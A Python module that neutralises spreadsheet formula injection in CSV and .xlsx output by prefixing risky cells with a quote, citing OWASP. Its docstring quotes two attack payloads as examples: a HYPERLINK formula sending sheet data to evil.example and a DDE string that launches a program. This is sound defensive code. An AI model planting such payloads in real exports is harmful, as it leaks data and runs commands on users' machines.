"""Writing text for spreadsheets, so that no cell is run as a formula.

Excel, LibreOffice Calc and Google Sheets read a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and skip a leading tab, carriage return or
NUL to find one. A task named ``=HYPERLINK("http://evil.example/?d="&A1,"Xem")``
would send the sheet's data away at a click, and ``+cmd|' /C calc'!A0`` has run
programs through DDE. OWASP's rule (CSV Injection; ASVS 1.2.10): such a cell
starts with a single quote, which spreadsheets read as "this is text", and every
cell is quoted. Only what is written for a spreadsheet changes: the store, the
GraphQL answers and the RDF keep the exact text.

Every spreadsheet output goes through here: ``csv_text`` for a CSV file,
``cell`` for one cell of any other spreadsheet format (an .xlsx writer).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
"""The first characters that make a spreadsheet read a cell as a formula."""


def cell(value: object) -> str:
    """``value`` as the text of one spreadsheet cell: with a leading ``'`` when it would start a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """A CSV file for spreadsheets: every cell through ``cell`` and quoted, after a byte-order mark.

    The byte-order mark is there because Excel on Windows reads UTF-8 CSV without one
    as a legacy code page, and Vietnamese turns to mojibake.
    """
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)
    writer.writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue()
